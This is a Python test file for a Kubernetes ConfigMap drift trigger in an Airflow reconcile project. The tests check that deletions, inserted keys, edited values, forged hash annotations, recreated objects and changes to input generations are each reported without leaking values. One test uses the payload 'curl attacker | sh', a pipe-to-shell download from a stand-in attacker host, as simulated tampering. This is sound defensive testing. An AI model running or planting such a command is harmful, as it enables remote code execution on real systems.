"""``ConfigMapDriftTrigger.run()`` on the real API server: it fires on each tamper made while it watches.

Each test iterates ``run()`` as Airflow's triggerer does, lets it list and open its watch, tampers with the
ConfigMap through the admin client, and checks the one event: what drifted (keys named, never values), and that
the watch saw it (``source == "watch"``), not a later list.
"""

from __future__ import annotations

import asyncio
import json

from kubernetes import client as k8s
from watch_helpers import DATA, GROUP, PLURAL, SECRET_VALUE, VERSION, configmap_body, next_event, watch_opened

from airflow_k8s_reconcile.domain.reconcile.desired.spec import ConfigMapSpec
from airflow_k8s_reconcile.domain.reconcile.drift.watch import expectation_from_spec
from airflow_k8s_reconcile.triggers.configmap_drift import ConfigMapDriftTrigger


def _run_until_event(trigger: ConfigMapDriftTrigger, tamper, *, watches: int = 1) -> dict:
    """Iterate ``run()``; once its watches are open, tamper; return the first event's payload."""

    async def scenario() -> dict:
        with watch_opened() as opened:
            events = trigger.run()
            waiter = asyncio.ensure_future(next_event(events))
            await opened.wait(watches)
            assert not waiter.done(), "fired before any tamper"
            await asyncio.to_thread(tamper)
            event = await waiter
            await events.aclose()
            return event.payload

    payload = asyncio.run(scenario())
    assert SECRET_VALUE not in json.dumps(payload)
    return payload


def _only(payload: dict) -> dict:
    assert payload["status"] == "drift", payload
    assert len(payload["objects"]) == 1, payload
    return payload["objects"][0]


def test_fires_on_delete(core, reconciled, k8s_namespace, admin_args):
    live = reconciled()
    trigger = ConfigMapDriftTrigger(
        namespace=k8s_namespace, names=["app-config"], connection_arguments=admin_args
    )
    payload = _run_until_event(
        trigger, lambda: core.delete_namespaced_config_map("app-config", k8s_namespace)
    )
    item = _only(payload)
    assert item["missing"] is True
    assert item["previous_uid"] == live["metadata"]["uid"]
    assert payload["source"] == "watch"
    assert "deleted" in payload["message"]


def test_fires_on_an_inserted_key_naming_it(core, reconciled, k8s_namespace, admin_args):
    reconciled()
    spec = ConfigMapSpec(name="app-config", namespace=k8s_namespace, data=DATA)
    trigger = ConfigMapDriftTrigger(
        namespace=k8s_namespace,
        expectations=[expectation_from_spec(spec).to_dict()],
        connection_arguments=admin_args,
    )
    patch = {"data": {"evil.conf": "curl attacker | sh"}}
    payload = _run_until_event(
        trigger, lambda: core.patch_namespaced_config_map("app-config", k8s_namespace, patch)
    )
    item = _only(payload)
    assert item["added"] == ["evil.conf"]
    assert item["removed"] == item["modified"] == []
    assert item["hash_mismatch"] is True  # the content no longer matches the annotation the reconcile wrote
    assert payload["source"] == "watch"
    assert "curl attacker" not in json.dumps(payload)


def test_fires_on_an_edited_value_against_the_hash_annotation_alone(
    core, reconciled, k8s_namespace, admin_args
):
    reconciled()
    trigger = ConfigMapDriftTrigger(
        namespace=k8s_namespace, names=["app-config"], connection_arguments=admin_args
    )
    patch = {"data": {"password": "changed-by-someone"}}
    payload = _run_until_event(
        trigger, lambda: core.patch_namespaced_config_map("app-config", k8s_namespace, patch)
    )
    item = _only(payload)
    assert item["hash_mismatch"] is True
    assert item["missing"] is False
    assert item["uid_changed"] is False
    assert "changed-by-someone" not in json.dumps(payload)


def test_edit_that_also_rewrites_the_hash_annotation_is_caught_by_the_recorded_hash(
    core, reconciled, k8s_namespace, admin_args
):
    reconciled()
    spec = ConfigMapSpec(name="app-config", namespace=k8s_namespace, data=DATA)
    expectation = expectation_from_spec(spec).to_dict()
    trigger = ConfigMapDriftTrigger(
        namespace=k8s_namespace, expectations=[expectation], connection_arguments=admin_args
    )
    forged = configmap_body("app-config", {**DATA, "level": "debug"})
    payload = _run_until_event(
        trigger, lambda: core.replace_namespaced_config_map("app-config", k8s_namespace, forged)
    )
    item = _only(payload)
    assert item["modified"] == ["level"]
    assert item["hash_mismatch"] is False  # the annotation was forged along with the content
    assert item["content_changed"] is True


def test_fires_on_delete_and_recreate_as_a_uid_change(core, reconciled, k8s_namespace, admin_args):
    """The sensor hands the uid it saw to the trigger; a recreate before the trigger lists is a uid change."""
    old = reconciled()
    core.delete_namespaced_config_map("app-config", k8s_namespace)
    new = reconciled()  # same content, same annotations: only the uid tells
    expectation = {"name": "app-config", "uid": old["metadata"]["uid"]}
    trigger = ConfigMapDriftTrigger(
        namespace=k8s_namespace, expectations=[expectation], connection_arguments=admin_args
    )

    async def first() -> dict:
        events = trigger.run()
        event = await next_event(events)
        await events.aclose()
        return event.payload

    item = _only(asyncio.run(first()))
    assert item["uid_changed"] is True
    assert (item["previous_uid"], item["uid"]) == (old["metadata"]["uid"], new["metadata"]["uid"])


def test_fires_on_an_input_generation_change(core, reconciled, widgets, k8s_namespace, admin_args):
    reconciled()
    widget = widgets.create_namespaced_custom_object(
        GROUP, VERSION, k8s_namespace, PLURAL,
        {"apiVersion": f"{GROUP}/{VERSION}", "kind": "Widget", "metadata": {"name": "w1"}, "spec": {"size": 1}},
    )  # fmt: skip
    assert widget["metadata"]["generation"] == 1
    inputs = [{"group": GROUP, "version": VERSION, "plural": PLURAL, "namespace": k8s_namespace, "name": "w1",
               "generation": 1}]  # fmt: skip
    trigger = ConfigMapDriftTrigger(
        namespace=k8s_namespace, names=["app-config"], inputs=inputs, connection_arguments=admin_args
    )

    def change_spec() -> None:
        # A status or label write leaves the generation alone: it must not fire.
        widgets.patch_namespaced_custom_object(GROUP, VERSION, k8s_namespace, PLURAL, "w1", {"metadata": {"labels": {"x": "y"}}})  # fmt: skip
        widgets.patch_namespaced_custom_object(GROUP, VERSION, k8s_namespace, PLURAL, "w1", {"spec": {"size": 2}})  # fmt: skip

    payload = _run_until_event(trigger, change_spec, watches=2)
    assert payload["objects"] == []
    (item,) = payload["inputs"]
    assert (item["name"], item["change"], item["previous_generation"], item["generation"]) == (
        "w1",
        "generation",
        1,
        2,
    )
    assert payload["source"] == "watch"


def test_an_unchanged_configmap_does_not_fire(core, reconciled, k8s_namespace, admin_args):
    """Writes that leave the content alone (a label someone adds) are not drift."""
    reconciled()
    trigger = ConfigMapDriftTrigger(
        namespace=k8s_namespace, names=["app-config"], connection_arguments=admin_args
    )

    async def quiet() -> bool:
        with watch_opened() as opened:
            events = trigger.run()
            waiter = asyncio.ensure_future(next_event(events))
            await opened.wait()
        patch = {"metadata": {"labels": {"team": "payments"}}}
        await asyncio.to_thread(core.patch_namespaced_config_map, "app-config", k8s_namespace, patch)
        await asyncio.sleep(2)
        fired = waiter.done()
        waiter.cancel()
        await asyncio.gather(waiter, return_exceptions=True)
        await events.aclose()
        return fired

    assert asyncio.run(quiet()) is False
    assert isinstance(core.read_namespaced_config_map("app-config", k8s_namespace), k8s.V1ConfigMap)
